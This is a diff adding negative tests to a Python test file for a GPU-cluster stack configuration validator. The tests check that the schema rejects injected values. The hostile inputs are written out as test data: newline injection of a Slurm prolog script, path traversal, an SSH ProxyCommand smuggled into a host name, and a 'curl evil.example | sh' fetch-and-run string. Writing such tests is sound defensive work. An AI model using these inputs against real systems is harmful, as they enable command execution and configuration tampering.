@@ -60,12 +60,61 @@ def _no_stack_file(config: dict[str, Any]) -> None:
     config.clear()
 
 
+def _set(path: str, value: Any) -> Any:
+    """A change that sets one value of the stack file (keys and list indexes, dotted)."""
+    def change(config: dict[str, Any]) -> None:
+        key, *rest = path.split(".")
+        if not rest:
+            config[f"gpu-cluster:{key}"] = value
+            return
+        target = config.setdefault(f"gpu-cluster:{key}", {})
+        for part in rest[:-1]:
+            target = target[int(part)] if isinstance(target, list) else target.setdefault(part, {})
+        last = rest[-1]
+        if isinstance(target, list):
+            target[int(last)] = value
+        else:
+            target[last] = value
+    return change
+
+
+def _team_named(name: str) -> Any:
+    def change(config: dict[str, Any]) -> None:
+        config["gpu-cluster:teams"][0]["name"] = name
+    return change
+
+
+# What a spec value could smuggle into a file, a command or a name (issue 21, cases 8-10): refused at the schema.
+INJECTIONS = [
+    pytest.param(_set("slurm.controller_host", "ctl\nPrologSlurmctld=/srv/evil.sh"),
+                 "slurm.controller_host: String should match pattern", id="a newline in the controller's host name"),
+    pytest.param(_set("slurm.state_save_dir", "/var/spool/slurmctld\nPrologSlurmctld=/srv/evil.sh"),
+                 "slurm.state_save_dir: String should match pattern", id="a newline in a Slurm directory"),
+    pytest.param(_set("slurm.log_dir", "/var/log/../../etc"), "slurm.log_dir: Value error, must not have . or .. "
+                 "parts", id="a Slurm directory that climbs"),
+    pytest.param(_set("node_groups.0.nodes.0.ssh_host", "10.20.1.11 -oProxyCommand=sh"),
+                 "node_groups[0].nodes[0].ssh_host: String should match pattern", id="a space in an SSH host"),
+    pytest.param(_set("storage.nvme.prefetch", ["llama; curl evil.example | sh"]),
+                 "storage.nvme.prefetch[0]: String should match pattern", id="a shell command in a prefetch entry"),
+    pytest.param(_set("storage.nfs_hot.servers", ["nfs-hot-01\n[Mount]"]),
+                 "storage.nfs_hot.servers[0]: String should match pattern", id="a newline in an NFS server"),
+    pytest.param(_set("storage.nfs_hot.servers", [""]), "storage.nfs_hot.servers[0]: String should match pattern",
+                 id="an empty NFS server"),
+    pytest.param(_set("gpu_catalog", {"A800 SXM": {"tdp_w": 400, "memory_gb": 80, "gpu_class": "dense",
+                                                   "source": "x", "smi_name": "x"}}),
+                 "gpu_catalog.A800 SXM.[key]: String should match pattern", id="a space in a GPU model name"),
+    *(pytest.param(_team_named(name), f"teams[0].name: {name!r} is reserved", id=f"a team named {name}")
+      for name in ("monitoring", "storage", "kube-system", "root", "gpu-operator")),
+]
+
+
 @pytest.mark.parametrize(
     ("change", "message"),
     [
         pytest.param(_over_budget, "racks[0].power_budget_kw: planned draw 26.0 kW", id="rack over its power budget"),
         pytest.param(_unknown_key, "racks[0].colour: unknown key", id="unknown key"),
         pytest.param(_no_stack_file, "required key is missing", id="empty stack file"),
+        *INJECTIONS,
     ],
 )
 def test_should_exit_2_naming_the_field(tmp_path: Path, change: Any, message: str) -> None:
